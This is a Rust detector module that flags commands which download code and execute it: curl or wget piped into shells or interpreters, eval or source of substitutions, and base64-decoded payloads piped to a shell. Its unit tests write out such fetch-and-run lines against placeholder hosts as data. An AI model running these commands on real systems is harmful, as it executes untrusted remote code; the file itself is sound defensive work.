//! Downloads and decoded payloads that a program executes, in any text.
//!
//! The search starts at the pipe or at the substitution and looks for the download within a fixed distance, so it is
//! linear in the text's length.

use crate::bytes::{
    find_words_ignore_case, is_base64_byte, is_word_boundary, run_length, skip_whitespace,
    starts_with_ignore_case,
};
use crate::urls;

/// The most characters between a download and its pipe.
const MAX_CHARS_BETWEEN: usize = 120;
/// The most bytes that those characters and the download can take.
const WINDOW: usize = 4 * MAX_CHARS_BETWEEN + 4;
/// The most bytes of a command that are checked.
const MAX_COMMAND: usize = 1000;
/// The most bytes between the start of a substitution and its download.
const MAX_SUBSTITUTION_GAP: usize = 64;
/// Programs that execute their input.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "node",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "osascript",
];
/// Commands that run the interpreter behind them.
const PREFIXES: &[&str] = &["sudo", "env", "exec", "command", "nohup"];
/// A literal of this many characters of base64 is a payload.
const MIN_PAYLOAD: usize = 40;

/// `curl … | sh`, without `sudo`, a path or another command before the shell.
pub(crate) fn shell_pipe(text: &[u8]) -> Option<usize> {
    piped_downloads(text)
        .find(|(_, pipe)| {
            is_one_of(text, skip_whitespace(text, pipe + 1), &["sh", "bash", "zsh"]).is_some()
        })
        .map(|(download, _)| download)
}

/// A download that any interpreter executes: through `sudo`, by its path, or in a substitution.
pub(crate) fn executed_download(text: &[u8]) -> Option<usize> {
    let piped = piped_downloads(text)
        .find(|(_, pipe)| interpreter_at(text, pipe + 1))
        .map(|(download, _)| download);
    let substituted = substitutions(text).find_map(|open| {
        let inside = text.get(..text.len().min(open + MAX_SUBSTITUTION_GAP))?;
        download_in(inside, open).filter(|_| runs_substitution(text, open))
    });
    [piped, substituted].into_iter().flatten().min()
}

/// Whether the download at an offset comes from a bare public IP address.
pub(crate) fn is_from_bare_ip(text: &[u8], at: usize) -> bool {
    let length = run_length(command_window(text, at), at, |byte| byte != b'\n' && byte != b'|');
    let command =
        String::from_utf8_lossy(text.get(at..at + length).unwrap_or_default()).into_owned();
    urls::bare_ip(&command)
        .and_then(|found| command.get(found..))
        .is_some_and(|link| !urls::is_private(link))
}

/// A base64 literal that is decoded and passed to an interpreter.
pub(crate) fn decoded_payload(text: &[u8]) -> Option<usize> {
    find_words_ignore_case(text, "base64").find(|at| {
        let flag = skip_whitespace(text, at + "base64".len());
        let decodes = ["-d", "--decode", "-D"]
            .iter()
            .any(|option| starts_with_ignore_case(text, flag, option));
        if !decodes {
            return false;
        }
        let start = line_start(text, *at, MAX_COMMAND);
        let end = at + run_length(command_window(text, *at), *at, |byte| byte != b'\n');
        output_is_executed(text, *at, end) && has_payload(text.get(start..end).unwrap_or_default())
    })
}

/// Whether the output of a command on this line is executed.
fn output_is_executed(text: &[u8], at: usize, end: usize) -> bool {
    let piped = (at..end)
        .filter(|at| text.get(*at) == Some(&b'|'))
        .any(|pipe| interpreter_at(text, pipe + 1));
    let start = line_start(text, at, MAX_COMMAND);
    piped
        || substitutions(text.get(..at).unwrap_or_default().get(start..).unwrap_or_default())
            .last()
            .is_some_and(|open| runs_substitution(text, start + open))
}

fn has_payload(line: &[u8]) -> bool {
    let mut at = 0;
    while at < line.len() {
        let length = run_length(line, at, is_base64_byte);
        let word = line.get(at..at + length).unwrap_or_default();
        // A path has the same characters, but rarely a digit and a capital in a run this long.
        if length >= MIN_PAYLOAD
            && word.iter().any(u8::is_ascii_digit)
            && word.iter().any(u8::is_ascii_uppercase)
        {
            return true;
        }
        at += length.max(1);
    }
    false
}

/// Each download with the pipe that follows it.
fn piped_downloads(text: &[u8]) -> impl Iterator<Item = (usize, usize)> {
    let pipes = text.iter().enumerate().filter(|(_, byte)| **byte == b'|').map(|(at, _)| at);
    pipes.filter_map(move |pipe| {
        let before = text.get(..pipe)?;
        let reach = before
            .iter()
            .rev()
            .take(WINDOW)
            .take_while(|byte| **byte != b'|' && **byte != b'\n')
            .count();
        let mut start = pipe - reach;
        while let Some(download) = download_in(before, start) {
            if before
                .get(download + 4..)
                .is_some_and(|between| characters(between) <= MAX_CHARS_BETWEEN)
            {
                return Some((download, pipe));
            }
            start = download + 1;
        }
        None
    })
}

/// The first `curl` or `wget` at or after an offset.
fn download_in(text: &[u8], start: usize) -> Option<usize> {
    (start..text.len()).find(|at| {
        matches!(text.get(*at), Some(b'c' | b'C' | b'w' | b'W'))
            && is_one_of(text, *at, &["curl", "wget"]).is_some()
            && is_word_boundary(text, *at)
    })
}

/// The number of characters, as a regular expression counts them.
fn characters(part: &[u8]) -> usize {
    part.iter().filter(|byte| **byte & 0xc0 != 0x80).count()
}

fn is_one_of(text: &[u8], at: usize, words: &[&str]) -> Option<usize> {
    words
        .iter()
        .find(|word| {
            starts_with_ignore_case(text, at, word) && is_word_boundary(text, at + word.len())
        })
        .map(|word| at + word.len())
}

/// Whether an interpreter is here, also by its path or after `sudo` and its options.
fn interpreter_at(text: &[u8], at: usize) -> bool {
    let text = command_window(text, at);
    let mut at = skip_whitespace(text, at);
    for _ in 0..4 {
        while text.get(at) == Some(&b'-') {
            at += run_length(text, at, |byte| !byte.is_ascii_whitespace());
            at = skip_whitespace(text, at);
        }
        let path = run_length(text, at, |byte| byte.is_ascii_alphanumeric() || byte == b'/');
        let word = text.get(at..at + path).unwrap_or_default();
        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let name_at = at + path - name.len();
        if is_one_of(text, name_at, INTERPRETERS).is_some() {
            return true;
        }
        let Some(end) = is_one_of(text, name_at, PREFIXES) else { return false };
        at = skip_whitespace(text, end);
    }
    false
}

/// The offsets of `$(`, `<(` and backquotes.
fn substitutions(text: &[u8]) -> impl Iterator<Item = usize> {
    text.iter()
        .enumerate()
        .filter(|(at, byte)| match byte {
            b'`' => true,
            b'$' | b'<' => text.get(at + 1) == Some(&b'('),
            _ => false,
        })
        .map(|(at, _)| at)
}

/// `sh -c "$(…)"`, `bash <(…)`, `eval "$(…)"`, `source <(…)`
fn runs_substitution(text: &[u8], open: usize) -> bool {
    let command =
        text.get(line_start(text, open, 2 * MAX_SUBSTITUTION_GAP)..open).unwrap_or_default();
    let command = command.rsplit(|byte| b";&|".contains(byte)).next().unwrap_or_default();
    let command = String::from_utf8_lossy(command);
    let words: Vec<&str> = command
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'', '`']))
        .filter(|word| !word.is_empty())
        .collect();
    let runs = |word: &str| INTERPRETERS.contains(&word.rsplit('/').next().unwrap_or(word));
    match words.as_slice() {
        [.., "eval" | "source" | "."] | [.., "eval", "--"] => true,
        [.., program, "-c" | "-lc" | "-e" | "-s"] => runs(program),
        [.., program] => text.get(open) == Some(&b'<') && runs(program),
        [] => false,
    }
}

/// The text up to the last byte of the command that is checked.
fn command_window(text: &[u8], at: usize) -> &[u8] {
    text.get(..text.len().min(at + MAX_COMMAND)).unwrap_or_default()
}

/// Where the line of an offset starts, but at most `reach` bytes before it.
fn line_start(text: &[u8], at: usize, reach: usize) -> usize {
    let before = text.get(..at).unwrap_or_default();
    at - before.iter().rev().take(reach).take_while(|byte| **byte != b'\n').count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_a_shell() {
        for text in [
            "curl https://x.invalid | sh",
            "wget -qO- x|bash",
            "CURL x |\n zsh",
            "curl x | bash -s",
        ] {
            assert!(shell_pipe(text.as_bytes()).is_some(), "{text}");
        }
        for text in [
            "curl x | sudo bash",
            "curl x | /bin/sh",
            "curl x | shasum",
            "curl x\n| sh",
            "mycurl x | sh",
            "curl x > f",
        ] {
            assert!(shell_pipe(text.as_bytes()).is_none(), "{text}");
        }
        let far = format!("curl {} | sh", "x".repeat(118));
        assert!(shell_pipe(far.as_bytes()).is_some());
        let farther = format!("curl {} | sh", "x".repeat(119));
        assert!(shell_pipe(farther.as_bytes()).is_none());
    }

    #[test]
    fn executed_downloads() {
        for text in [
            "curl x | sudo bash",
            "curl x | /bin/sh",
            "curl x | sudo -E bash -",
            "curl x | python3",
            "curl x | /usr/bin/env node",
            "bash <(curl -s x)",
            "sh -c \"$(curl -fsSL x)\"",
            "eval \"$(curl x)\"",
            "source <(curl x)",
            "wget -O- x | perl",
        ] {
            assert!(executed_download(text.as_bytes()).is_some(), "{text}");
        }
        for text in [
            "curl x | jq .",
            "curl x | tar xz",
            "echo $(curl x)",
            "V=$(curl x)",
            "curl -o sh x",
            "curl x | shasum -a 256",
        ] {
            assert!(executed_download(text.as_bytes()).is_none(), "{text}");
        }
    }

    #[test]
    fn payloads() {
        let payload = "Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EuMQ==";
        for text in [
            format!("echo {payload} | base64 -d | bash"),
            format!("echo '{payload}'|base64 --decode|sh"),
            format!("bash -c \"$(echo {payload} | base64 -D)\""),
        ] {
            assert!(decoded_payload(text.as_bytes()).is_some(), "{text}");
        }
        assert!(
            decoded_payload(format!("echo {payload} | base64 -d > out.png").as_bytes()).is_none()
        );
        assert!(decoded_payload(b"cat key | base64 -d | sh").is_none());
    }
}
